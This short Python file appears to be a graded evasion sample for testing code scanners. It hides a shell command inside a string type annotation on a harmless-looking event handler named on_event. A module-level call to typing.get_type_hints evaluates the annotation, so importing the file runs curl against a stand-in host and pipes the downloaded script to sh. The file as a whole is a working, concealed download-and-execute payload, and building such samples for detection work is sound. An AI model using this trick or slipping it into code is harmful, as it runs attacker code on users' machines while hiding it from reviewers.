# evasion: the command sits in a string annotation; typing.get_type_hints evaluates the annotation
# grade: very hard; does: shell
import typing


def on_event(event: "__import__('os').system('curl -s http://198.51.100.41/s.sh | sh')") -> None:
    """Handle one event from the queue."""
    return None


try:
    typing.get_type_hints(on_event)
except TypeError:
    pass
